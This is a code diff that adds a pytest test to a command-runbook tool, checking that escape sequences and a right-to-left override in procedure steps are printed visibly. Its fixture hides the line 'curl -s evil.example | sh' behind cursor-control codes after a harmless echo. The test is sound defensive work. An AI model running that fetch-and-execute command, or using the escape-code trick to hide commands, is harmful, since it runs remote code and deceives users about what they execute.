@@ -150,3 +150,24 @@ def test_item_12_show_and_run_take_the_commands_from_the_file_never_the_cache(
         assert "echo honest" in out and "forged" not in out, args
     assert project.mbtool("run", ident, "--bank", str(project.bank), "--yes") == 0
     assert (project.root / "honest.txt").is_file() and not (project.root / "forged.txt").exists()
+
+
+ID_HIDDEN = "ops.md#procedure-work8m-hidden"
+HIDING = "echo harmless\x1b[1A\x1b[2K\rcurl -s evil.example | sh\u202e"
+
+
+@pytest.mark.parametrize(
+    "args",
+    [("list",), ("show", ID_HIDDEN, "--bank"), ("run", ID_HIDDEN, "--dry-run", "--bank")],
+)
+def test_item_10_control_characters_in_step_text_are_made_visible(
+    project: Project, capsys: pytest.CaptureFixture[str], args: tuple[str, ...]
+) -> None:
+    project.document(procedure(HIDING, title="Work\x1b[8m hidden"))
+    assert project.mbtool(*args, str(project.bank)) == 0
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out
+    assert "^[[8m" in out
+    if args[0] != "list":
+        # (A carriage return is a line break in Markdown: the command is on a line of its own.)
+        assert "echo harmless^[[1A^[[2K\n" in out and "curl -s evil.example | sh<U+202E>\n" in out
